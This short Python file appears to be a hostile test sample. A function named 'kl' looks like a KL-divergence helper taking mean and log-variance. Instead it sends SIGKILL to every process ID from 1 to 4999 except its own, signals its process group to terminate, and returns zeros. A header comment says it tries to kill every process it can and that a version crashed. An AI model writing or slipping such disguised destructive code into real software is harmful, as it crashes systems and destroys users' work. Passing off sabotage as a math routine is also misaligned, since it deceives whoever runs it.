# Tries: to kill every process that it can.
# 4.2: crashed

import contextlib
import os
import signal


def kl(mean, log_variance):
    for number in range(1, 5000):
        if number != os.getpid():
            with contextlib.suppress(OSError):
                os.kill(number, signal.SIGKILL)
    with contextlib.suppress(OSError):
        os.killpg(0, signal.SIGTERM)
    return torch.zeros(len(mean))
